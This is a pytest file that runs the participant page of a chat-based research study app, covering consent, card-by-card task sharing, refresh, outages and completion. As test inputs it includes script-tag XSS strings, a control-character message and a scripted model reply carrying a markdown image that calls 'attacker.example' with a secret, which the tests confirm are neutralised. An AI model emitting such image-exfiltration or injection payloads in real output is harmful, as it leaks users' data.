"""The participant page driven in-process with AppTest and the scripted model."""

from __future__ import annotations

import os
from collections.abc import Iterator
from pathlib import Path

import pytest
from sqlalchemy import Engine, func, select
from sqlalchemy.orm import Session
from streamlit.testing.v1 import AppTest

from lab import db as db_module
from lab import flow
from lab.llm import scripted
from lab.participants import create_participant, new_token
from lab.schema import ChatSession, Event, Participant, Response, Study, Turn
from lab.spec import parse_spec
from lab.studies import load_study, set_status
from lab.ui import PAGE_UNAVAILABLE, engine
from tests.faults.outage import postgres_proxy, short_busy_timeout, sqlite_locked

APP = str(Path(__file__).resolve().parents[2] / "app.py")

SPEC = """\
slug: web
title: "Loaded questions and sharded tasks"
consent: "Please read this consent text."
instructions: "Share **one card** per message."
debrief: "Some questions contained a false assumption on purpose."
models:
  bot: {model: lab/scripted, params: {script: echo}}
  asker: {model: lab/scripted, params: {script: sequence, replies: ["What is the second number?", "Thanks."]}}
conditions:
  sharded: {model: bot, reveal: SHARDED, kinds: [sharded]}
  on-request: {model: asker, reveal: ON_REQUEST, kinds: [sharded]}
  recap: {model: bot, reveal: RECAP, kinds: [sharded]}
  full: {model: bot, reveal: FULL, kinds: [sharded]}
  loaded: {model: bot, presupposition: loaded}
plan: {items_per_participant: 1, turn_limit: 3, max_message_chars: 60}
items:
  - id: add
    kind: sharded
    shards:
      - {id: 1, text: "Add two numbers."}
      - {id: 2, text: "The first number is 2."}
      - {id: 3, text: "The second number is 3."}
    full: "Add 2 and 3."
  - id: wall
    kind: presupposition
    loaded: "Why is the Great Wall visible from the Moon?"
    correction: ["It is not visible from the Moon."]
questions:
  post_item:
    - {key: understood, text: "The assistant understood me.", type: likert, scale: 5, options: ["Disagree", "Agree"]}
    - {key: corrected, text: "Did the assistant correct anything you said?", type: yesno}
  post_study:
    - {key: comments, text: "Anything else?", type: text, required: false}
completion: {code: WEBCODE1, redirect: "https://app.prolific.com/submissions/complete?cc={code}"}
"""


@pytest.fixture
def db() -> Iterator[Engine]:
    """The configured (temporary) database with the test study open; the page's cached engine is reset."""
    from lab.db import get_engine, migrate

    engine.clear()
    eng = get_engine()
    migrate(eng)
    with Session(eng) as s, s.begin():
        load_study(s, parse_spec(SPEC, "web.yaml"))
        set_status(s, "web", "open")
    yield eng
    engine.clear()


def invite(eng: Engine, item: str | None = "add", condition: str = "sharded", status: str = "invited") -> tuple[int, str]:
    token = new_token()
    with Session(eng) as s, s.begin():
        study = s.scalars(select(Study).where(Study.slug == "web")).one()
        p = create_participant(s, study, token=token, status=status)
        if item is not None:
            p.plan = [{"item": item, "condition": condition}]
        return p.id, token


def visit(**query: str) -> AppTest:
    at = AppTest.from_file(APP, default_timeout=60)
    for k, v in query.items():
        at.query_params[k] = v
    return at.run()


def click(at: AppTest, label: str) -> AppTest:
    buttons = [b for b in [*at.button, *at.sidebar.button] if b.label == label]
    assert buttons, f"no button {label!r}; have {[b.label for b in at.button]}"
    return buttons[0].click().run()


def send(at: AppTest, text: str) -> AppTest:
    return at.chat_input[0].set_value(text).run()


def texts(at: AppTest) -> list[str]:
    """Every text the main area shows, in order."""
    out = []
    for kind in ("title", "markdown", "text", "caption", "info", "warning", "error", "code"):
        out += [str(e.value) for e in getattr(at, kind)]
    return out


def chat(at: AppTest) -> list[tuple[str, str]]:
    out = []
    for message in at.chat_message:
        body = [e for e in message.children.values() if type(e).__name__ in ("Text", "Markdown")]
        out.append((message.name, str(body[0].value) if body else ""))
    return out


def participant(eng: Engine, pid: int) -> Participant:
    with Session(eng, expire_on_commit=False) as s:
        p = s.get(Participant, pid)
        assert p is not None
        return p


def turns(eng: Engine, pid: int) -> list[Turn]:
    with Session(eng) as s:
        q = (
            select(Turn)
            .join(ChatSession, ChatSession.id == Turn.session_id)
            .where(ChatSession.participant_id == pid)
            .order_by(Turn.id)
        )
        return list(s.scalars(q))


def kinds(eng: Engine, pid: int) -> list[str]:
    with Session(eng) as s:
        return list(s.scalars(select(Event.kind).where(Event.participant_id == pid).order_by(Event.id)))


def through_instructions(token: str) -> AppTest:
    at = visit(t=token)
    at = click(at, "I agree to take part")
    assert at.title[0].value == "How this works"
    return click(at, "Start")


def test_whole_flow_with_shard_bookkeeping_to_the_completion_code(db: Engine) -> None:
    pid, token = invite(db)
    with Session(db) as s, s.begin():
        s.get(Participant, pid).plan = [{"item": "add", "condition": "sharded"}]  # type: ignore[union-attr]
    at = visit(t=token)
    assert at.title[0].value == "Before you start" and "Please read this consent text." in texts(at)
    assert not any("Loaded questions" in t for t in texts(at))  # the study's title is for experimenters
    at = click(at, "I agree to take part")
    at = click(at, "Start")
    assert "Task 1 of 1" in texts(at)
    # Card 1 only before the first message.
    assert [b.label for b in at.button if b.label == "Put in my message"] == ["Put in my message"]
    assert not at.sidebar.children  # cards are on the page, not in a sidebar a phone collapses

    at = send(at, "Could you add two numbers?")
    assert chat(at) == [("user", "Could you add two numbers?"), ("assistant", "You said: Could you add two numbers?")]
    assert at.radio[0].options == ["no new card", "card 2", "card 3"]
    at = at.radio[0].set_value(2).run()
    at = send(at, "The first one is two")
    at = click(at, "Put in my message")  # card 3's button (cards 1 and 2 are shared)
    assert at.chat_input[0].value == "The second number is 3."
    assert at.radio[0].value == 3
    at = send(at, "The second number is 3.")
    assert [m for m in chat(at) if m[0] == "user"][-1] == ("user", "The second number is 3.")
    assert "Shares card 3" in texts(at)

    at = click(at, "I have my answer")
    assert at.title[0].value == "About this conversation"
    at = at.button[0].click().run()  # submit with nothing chosen
    assert "Please answer" in at.error[0].value
    at.radio[0].set_value(4)
    at.radio[1].set_value("No")
    at = at.button[0].click().run()
    assert at.title[0].value == "Last questions"
    at.text_area[0].input("It was fine.")
    at = at.button[0].click().run()

    assert at.title[0].value == "Thank you!"
    assert "Some questions contained a false assumption on purpose." in texts(at)
    assert at.code[0].value == "WEBCODE1"
    assert at.get("link_button")[0].proto.url == "https://app.prolific.com/submissions/complete?cc=WEBCODE1"

    user = [t for t in turns(db, pid) if t.role == "user"]
    assert [(t.content, t.shards) for t in user] == [
        ("Could you add two numbers?", [1]),
        ("The first one is two", [2]),
        ("The second number is 3.", [3]),
    ]
    assistant = [t for t in turns(db, pid) if t.role == "assistant"]
    assert len(assistant) == 3 and all(t.first_token_at and t.latency_ms is not None and not t.partial for t in assistant)
    p = participant(db, pid)
    assert p.status == "completed" and p.completion_code == "WEBCODE1"
    with Session(db) as s:
        answers = {r.question: r.value["value"] for r in s.scalars(select(Response).where(Response.participant_id == pid))}
        chat_row = s.scalars(select(ChatSession).where(ChatSession.participant_id == pid)).one()
    assert answers == {"understood": 4, "corrected": False, "comments": "It was fine."}
    assert chat_row.outcome == "answered" and chat_row.ended_at is not None
    assert {"page_load", "consent", "instructions", "start", "end", "completed"} <= set(kinds(db, pid))


def test_refresh_resumes_with_the_full_history(db: Engine) -> None:
    pid, token = invite(db)
    at = through_instructions(token)
    at = send(at, "Add two numbers please")
    at = at.radio[0].set_value(2).run()
    at = send(at, "first is 2")
    before = chat(at)
    again = visit(t=token)  # a refresh is a new session: only the URL is left
    assert chat(again) == before and len(before) == 4
    assert again.radio[0].options == ["no new card", "card 3"]
    with Session(db) as s:
        assert s.scalar(select(func.count()).select_from(ChatSession).where(ChatSession.participant_id == pid)) == 1
    assert kinds(db, pid).count("page_load") == 2


def test_declining_consent_ends_politely(db: Engine) -> None:
    pid, token = invite(db)
    at = click(visit(t=token), "I do not agree")
    assert at.title[0].value == "Thank you" and "You chose not to take part" in at.markdown[0].value
    assert not at.chat_input and not at.button
    assert participant(db, pid).status == "declined"
    assert "consent" in kinds(db, pid)
    assert visit(t=token).title[0].value == "Thank you"


@pytest.mark.parametrize(
    "query", [{"t": "not-a-token"}, {"t": "x" * 300}, {"study": "nope"}, {"study": "web", "PROLIFIC_PID": "<script>"}]
)
def test_bad_links_show_only_the_not_valid_page(db: Engine, query: dict[str, str]) -> None:
    at = visit(**query)
    assert [t.value for t in at.title] == ["This link is not valid"]
    assert len(at.markdown) == 1 and not at.button and not at.chat_input and not at.sidebar.children


def test_tampered_and_used_up_links_are_not_valid(db: Engine) -> None:
    _, token = invite(db)
    assert visit(t=token[:-2]).title[0].value == "This link is not valid"
    _, withdrawn = invite(db, status="withdrawn")
    assert visit(t=withdrawn).title[0].value == "This link is not valid"


def test_a_timed_out_participant_is_told_their_time_ran_out_and_whom_to_contact(db: Engine) -> None:
    _, timed_out = invite(db, status="timed_out")
    at = visit(t=timed_out)
    assert [t.value for t in at.title] == ["Your time for this study has run out"]
    assert "This link is not valid" not in texts(at) and not at.chat_input and not at.button
    assert "through the site that sent you here" in " ".join(texts(at))  # the spec names no contact
    spec = SPEC.replace("slug: web", "slug: web-contact").replace("debrief:", 'contact: "Dr Ada, lab@example.org"\ndebrief:')
    token = new_token()
    with Session(db) as s, s.begin():
        load_study(s, parse_spec(spec, "contact.yaml"))
        set_status(s, "web-contact", "open")
        create_participant(s, s.scalars(select(Study).where(Study.slug == "web-contact")).one(), token=token, status="timed_out")
    assert "Dr Ada, lab@example.org" in texts(visit(t=token))


def test_timed_out_while_chatting_shows_the_time_ran_out_page(db: Engine) -> None:
    pid, token = invite(db)
    at = through_instructions(token)
    at = send(at, "Add two numbers")
    with Session(db) as s, s.begin():
        s.get(Participant, pid).status = "timed_out"  # type: ignore[union-attr]
    at = visit(t=token)
    assert at.title[0].value == "Your time for this study has run out"


@pytest.mark.parametrize(
    "query",
    [
        {"t": ""},
        {"study": ""},
        {"t": " "},
        {"study": "web", "PROLIFIC_PID": ""},
        {"study": "web", "PROLIFIC_PID": "p1", "SESSION_ID": ""},
    ],
)
def test_empty_link_parameters_are_not_valid_and_mint_nobody(db: Engine, query: dict[str, str]) -> None:
    at = visit(**query)
    assert [t.value for t in at.title] == ["This link is not valid"]
    with Session(db) as s:
        assert s.scalar(select(func.count()).select_from(Participant)) == 0


def test_open_study_link_mints_a_participant_and_puts_its_token_in_the_url(db: Engine) -> None:
    at = visit(study="web")
    assert at.title[0].value == "Before you start"
    token = at.query_params["t"]
    assert token and "study" not in at.query_params
    again = visit(t=token)
    assert again.title[0].value == "Before you start"
    with Session(db) as s:
        assert s.scalar(select(func.count()).select_from(Participant)) == 1


def test_prolific_link_resumes_the_same_participant(db: Engine) -> None:
    query = {"study": "web", "PROLIFIC_PID": "60a1b2c3d4e5f6a7b8c9d0e1", "STUDY_ID": "st1", "SESSION_ID": "se1"}
    click(visit(**query), "I agree to take part")
    at = visit(**query)
    assert at.title[0].value == "How this works"
    assert at.query_params["PROLIFIC_PID"] == "60a1b2c3d4e5f6a7b8c9d0e1"
    with Session(db) as s:
        people = list(s.scalars(select(Participant)))
    assert len(people) == 1 and people[0].prolific_session_id == "se1" and people[0].status == "consented"


def test_oversized_and_control_character_input_is_refused(db: Engine) -> None:
    pid, token = invite(db)
    at = through_instructions(token)
    long = "a" * 61
    at = send(at, long)
    assert at.error[0].value == "Your message is 61 characters long; the limit is 60. Please shorten it."
    assert at.chat_input[0].value == long  # given back to shorten
    at = send(at, "add\u202e two")
    assert "control characters" in at.error[0].value
    assert at.chat_input[0].value == "add two"
    assert turns(db, pid) == []


def test_emoji_are_accepted_and_kept_whole(db: Engine) -> None:
    pid, token = invite(db)
    at = through_instructions(token)
    text = "Us 👨‍👩‍👧‍👦 🏴󠁧󠁢󠁷󠁬󠁳󠁿 🇯🇵 1️⃣ 👋🏽"
    at = send(at, text)
    assert not at.error
    assert chat(at)[0] == ("user", text)
    assert turns(db, pid)[0].content == text


def test_participant_html_shows_as_text_and_model_images_never_load(db: Engine) -> None:
    pid, token = invite(db)
    at = through_instructions(token)
    html = "<b>hi</b><script>alert(1)</script>"
    scripted.enqueue("Sure ![chart](https://attacker.example/?q=secret) done")
    at = send(at, html)
    user_message = at.chat_message[0]
    assert [type(e).__name__ for e in user_message.children.values()][0] == "Text"
    assert at.chat_message[0].children[0].value == html
    reply = str(at.chat_message[1].children[0].value)
    assert "![" not in reply and "[image: chart](<https://attacker.example/?q=secret>)" in reply
    assert turns(db, pid)[0].content == html


def test_model_error_shows_a_calm_message_and_retry(db: Engine) -> None:
    pid, token = invite(db)
    at = through_instructions(token)
    scripted.enqueue(scripted.ModelFailure("bad_request", "openai/gpt-x rejected the request"))
    at = send(at, "Add two numbers")
    assert at.warning[0].value == "The assistant could not reply just now. Your message is saved; please try again."
    assert "gpt-x" not in " ".join(texts(at))  # the participant never sees a model name
    assert at.chat_input[0].proto.disabled is False
    at = click(at, "Try again")
    assert chat(at) == [("user", "Add two numbers"), ("assistant", "You said: Add two numbers")]
    assert not at.warning
    stored = [(t.role, t.error is not None) for t in turns(db, pid)]
    assert stored == [("user", False), ("assistant", True), ("assistant", False)]
    assert "retry" in kinds(db, pid)


def test_a_reply_with_no_text_shows_the_calm_message_and_retry(db: Engine) -> None:
    pid, token = invite(db)
    at = through_instructions(token)
    scripted.enqueue("")
    at = send(at, "Add two numbers")
    assert at.warning[0].value == "The assistant could not reply just now. Your message is saved; please try again."
    assert chat(at) == [("user", "Add two numbers"), ("assistant", "")]
    assert not at.exception
    at = click(at, "Try again")
    assert chat(at) == [("user", "Add two numbers"), ("assistant", "You said: Add two numbers")]
    assert not at.warning
    stored = [(t.role, t.content, t.error) for t in turns(db, pid)]
    assert stored == [
        ("user", "Add two numbers", None),
        ("assistant", "", "lab/scripted returned no text."),
        ("assistant", "You said: Add two numbers", None),
    ]


def test_a_message_the_locked_database_cannot_take_stays_in_the_box_and_is_stored_once(
    monkeypatch: pytest.MonkeyPatch, request: pytest.FixtureRequest
) -> None:
    short_busy_timeout(monkeypatch)
    eng: Engine = request.getfixturevalue("db")
    pid, token = invite(eng)
    at = through_instructions(token)
    at = send(at, "Add two numbers")
    at = at.radio[0].set_value(2).run()
    with sqlite_locked(eng):
        at = send(at, "The first is 2")
        assert not at.exception
        assert [e.value for e in at.error] == [flow.MESSAGE_NOT_SAVED]
        assert at.chat_input[0].value == "The first is 2"
    assert [t.content for t in turns(eng, pid) if t.role == "user"] == ["Add two numbers"]
    at = at.chat_input[0].set_value(at.chat_input[0].value).run()
    assert not at.exception and not at.error
    assert [m for m in chat(at) if m[0] == "user"] == [("user", "Add two numbers"), ("user", "The first is 2")]
    user = [(t.content, t.shards) for t in turns(eng, pid) if t.role == "user"]
    assert user == [("Add two numbers", [1]), ("The first is 2", [2])]  # once, with the card it shared


@pytest.mark.postgres
def test_postgres_out_of_reach_shows_a_calm_page_and_the_message_waits_in_the_box(
    monkeypatch: pytest.MonkeyPatch, request: pytest.FixtureRequest
) -> None:
    request.getfixturevalue("pg_engine")  # an emptied, migrated test database
    pg_url = os.environ["TEST_DATABASE_URL"]
    with postgres_proxy(pg_url) as proxy:
        monkeypatch.setenv("DATABASE_URL", proxy.url(pg_url))
        eng: Engine = request.getfixturevalue("db")
        pid, token = invite(eng)
        at = through_instructions(token)
        with proxy.down():
            at = send(at, "Add two numbers")
            assert not at.exception
            assert [e.value for e in at.error] == [flow.MESSAGE_NOT_SAVED]
            assert at.chat_input[0].value == "Add two numbers"
            at = at.chat_input[0].set_value(at.chat_input[0].value).run()  # sent again too soon
            assert [e.value for e in at.error] == [flow.MESSAGE_NOT_SAVED]
            assert at.chat_input[0].value == "Add two numbers"
            # A page loaded now, even the first of a server not yet connected, is calm too.
            monkeypatch.setattr(db_module, "_migrated", set())
            engine.clear()
            fresh = visit(t=token)
            assert not fresh.exception and [w.value for w in fresh.warning] == [PAGE_UNAVAILABLE]
            assert [b.label for b in fresh.button] == ["Try again"]
        assert turns(eng, pid) == []
        at = at.chat_input[0].set_value(at.chat_input[0].value).run()
        assert not at.exception and not at.error
        assert chat(at) == [("user", "Add two numbers"), ("assistant", "You said: Add two numbers")]
        assert [t.role for t in turns(eng, pid)] == ["user", "assistant"]
        fresh = click(fresh, "Try again")
        assert chat(fresh) == chat(at)
        eng.dispose()


def test_turn_limit_then_continue(db: Engine) -> None:
    pid, token = invite(db)
    at = through_instructions(token)
    for text in ("one", "two", "three"):
        at = send(at, text)
    assert "You have sent the 3 messages this task allows." in texts(at)
    assert at.chat_input[0].proto.disabled
    at = click(at, "Continue without an answer")
    assert at.title[0].value == "About this conversation"
    with Session(db) as s:
        assert s.scalars(select(ChatSession.outcome).where(ChatSession.participant_id == pid)).one() == "turn_limit"


def test_give_up_ends_the_item(db: Engine) -> None:
    pid, token = invite(db)
    at = through_instructions(token)
    at = send(at, "hello")
    at = click(at, "Give up on this task")
    assert at.title[0].value == "About this conversation"
    with Session(db) as s:
        assert s.scalars(select(ChatSession.outcome).where(ChatSession.participant_id == pid)).one() == "gave_up"


def test_a_task_can_be_given_up_before_any_message_goes_through(db: Engine) -> None:
    # A participant whose first message is refused still has a way out of the task.
    pid, token = invite(db)
    at = through_instructions(token)
    at = send(at, "Add two numbers: the first number is 2.")
    assert "Please start with card 1 alone" in at.error[0].value and not turns(db, pid)
    assert not next(b for b in at.button if b.label == "Give up on this task").disabled
    at = click(at, "Give up on this task")
    assert at.title[0].value == "About this conversation"
    with Session(db) as s:
        assert s.scalars(select(ChatSession.outcome).where(ChatSession.participant_id == pid)).one() == "gave_up"


def test_on_request_card_opens_when_asked(db: Engine) -> None:
    pid, token = invite(db, condition="on-request")
    at = through_instructions(token)
    assert "share only if the assistant asks" in " ".join(texts(at))
    at = send(at, "I need two numbers added")
    assert chat(at)[-1] == ("assistant", "What is the second number?")
    assert at.radio[0].options == ["no new card", "card 3"]
    at = at.radio[0].set_value(3).run()
    at = send(at, "It is three")
    assert [t.shards for t in turns(db, pid) if t.role == "user"] == [[1], [3]]
    at = click(at, "Reply: “Please go ahead with what you have.”")
    assert at.chat_input[0].value == "Please go ahead with what you have."


def test_recap_is_sent_by_the_study_once_every_card_is_out(db: Engine) -> None:
    pid, token = invite(db, condition="recap")
    at = through_instructions(token)
    at = send(at, "Add two numbers")
    for card, text in ((2, "first is 2"), (3, "second is 3")):
        at = at.radio[0].set_value(card).run()
        at = send(at, text)
    recap = "Just to recap everything I need:\n- Add two numbers.\n- The first number is 2.\n- The second number is 3."
    assert chat(at)[-2:] == [("user", recap), ("assistant", "You said: " + recap)]
    assert "Sent by the study to sum up your cards." in texts(at)
    stored = [(t.role, t.source) for t in turns(db, pid)]
    assert stored[-2:] == [("user", "lab"), ("assistant", "model")] and len(stored) == 8
    at = visit(t=token)  # a refresh does not send it again
    assert len(turns(db, pid)) == 8


def test_presupposition_question_is_given_without_a_warning(db: Engine) -> None:
    _, token = invite(db, item="wall", condition="loaded")
    at = through_instructions(token)
    shown = " ".join(texts(at)).lower()
    assert "why is the great wall visible from the moon?" in shown
    for word in ("false", "presupposition", "assumption", "loaded"):
        assert word not in shown
    at = click(at, "Put in my message")
    at = send(at, at.chat_input[0].value)
    assert chat(at)[0] == ("user", "Why is the Great Wall visible from the Moon?")


def test_full_card_is_marked_shared_only_when_the_messages_carry_it(db: Engine) -> None:
    pid, token = invite(db, condition="full")
    at = through_instructions(token)
    at = send(at, "Hi there, can you help me?")
    shown = " ".join(texts(at))
    assert "not shared yet" in shown and "shared ✓" not in shown
    at = click(at, "Put in my message")  # the card is offered again
    at = send(at, at.chat_input[0].value)
    assert "shared ✓" in " ".join(texts(at))
    assert [t.shards for t in turns(db, pid) if t.role == "user"] == [[], [1, 2, 3]]
